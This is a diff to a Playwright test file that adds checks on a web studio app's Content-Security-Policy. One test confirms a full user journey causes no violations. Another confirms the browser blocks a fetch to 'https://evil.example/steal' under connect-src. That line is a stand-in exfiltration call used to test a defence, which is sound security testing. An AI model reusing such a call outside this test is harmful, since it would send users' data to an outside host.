@@ -1,5 +1,6 @@
 import type { Page } from '@playwright/test';
 import { expect, test } from './fixtures';
+import { History } from './task-helpers';
 
 // PRODUCT 3: every catalog string is untrusted text, rendered as text, never as HTML. The sandbox's
 // community templates carry the attacks: markup with handlers, script tags, a 2,400-character name,
@@ -141,4 +142,58 @@ test('the 2,400-character name stays inside the page at 1280 px, in the gallery 
   // Clamped on screen: the heading is not thousands of pixels tall.
   const box = await heading.boundingBox();
   expect(box!.height).toBeLessThan(200);
+});
+
+test('the built studio is served with a Content-Security-Policy, and a whole journey breaks none of it', async ({
+  studio,
+  page,
+}) => {
+  const violations: string[] = [];
+  await page.exposeFunction('reportCsp', (v: string) => violations.push(v));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (e) =>
+      (window as unknown as { reportCsp: (v: string) => void }).reportCsp(
+        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
+      ),
+    );
+  });
+  const response = await page.goto('/');
+  const csp = response!.headers()['content-security-policy'] ?? '';
+  for (const directive of [
+    "script-src 'self'",
+    "object-src 'none'",
+    "base-uri 'none'",
+    "frame-ancestors 'none'",
+    "connect-src 'self' http://127.0.0.1:4110",
+  ])
+    expect(csp).toContain(directive);
+  expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
+
+  await studio.connect('personal');
+  const form = await studio.openModel('Lumen Canvas');
+  await studio.prompt.fill('A lighthouse at dusk');
+  await expect(studio.quote.getByTestId('quote-credits')).toBeVisible();
+  await form.getByRole('button', { name: 'Generate' }).click();
+  const history = new History(page);
+  const card = history.card('A lighthouse at dusk');
+  await history.expectStatus(card, 'succeeded');
+  await expect(card.getByRole('img').first()).toBeVisible();
+  await page.getByRole('button', { name: /^Compare/ }).click();
+  await expect(page.getByRole('region', { name: 'Compare', exact: true })).toBeVisible();
+  expect(violations).toEqual([]);
+});
+
+test('the policy refuses a call to an origin it does not name', async ({ studio, page }) => {
+  await studio.goto();
+  // The browser reports the refusal itself (offline or not, this is the policy speaking).
+  const directive = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
+          once: true,
+        });
+        void fetch('https://evil.example/steal').catch(() => undefined);
+      }),
+  );
+  expect(directive).toBe('connect-src');
 });
